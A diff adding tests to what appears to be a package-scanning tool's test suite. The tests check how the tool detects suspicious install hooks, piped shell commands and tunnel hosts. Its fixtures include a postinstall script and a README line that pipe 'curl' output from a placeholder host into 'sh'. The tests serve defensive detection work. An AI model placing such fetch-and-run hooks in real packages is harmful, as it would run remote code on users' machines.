@@ -12,6 +12,7 @@ from darnel.features.facts import SourceFacts
 from darnel.features.languages.registry import language_by_name
 from darnel.features.limits import Limits
 from darnel.features.package import Ecosystem, MemoryPackage
+from darnel.features.raw import RawPackage
 from darnel.features.vectorise import FILE_COLUMNS, PACKAGE_COLUMNS, quantise, vectorise_files, vectorise_package
 
 
@@ -60,3 +61,21 @@ def test_a_bug_in_an_analyser_costs_one_file(monkeypatch: pytest.MonkeyPatch) ->
     (raw,) = extract(MemoryPackage({"a.py": b"x = 'https://abc.ngrok.io/'"}))["files"]
     assert raw["cut"] == [FAILED]
     assert {o.behaviour for o in raw["observations"]} == {"host.tunnel"}
+
+
+def apis(raw: RawPackage, path: str) -> set[str]:
+    return {seen.api for file in raw["files"] if file["path"] == path for seen in file["observations"]}
+
+
+def test_what_a_file_only_says_is_no_behaviour() -> None:
+    manifest = (
+        b'{"name": "a", "keywords": ["powershell"],\n "scripts": {"clean": "rm -rf build",\n'
+        b' "postinstall": "curl -s https://example.invalid/x | sh"}}'
+    )
+    readme = b"# a\n\npip install a\n\ncurl https://example.invalid/x | sh\n"
+    raw = extract(npm(package__json=manifest, README__md=readme, index__js=b"x('\\\"postinstall\\\":')"))
+    assert apis(raw, "package.json") == {"script:postinstall"}
+    assert {"command:packager", "command:piped"} & apis(raw, "README.md") == {"command:piped"}
+    assert "spread:package" in apis(raw, "index.js"), "code that writes hooks into manifests"
+    hook = next(file for file in raw["files"] if file["path"] == "package.json#postinstall")
+    assert "spawn.piped" in {seen.behaviour for seen in hook["observations"]}
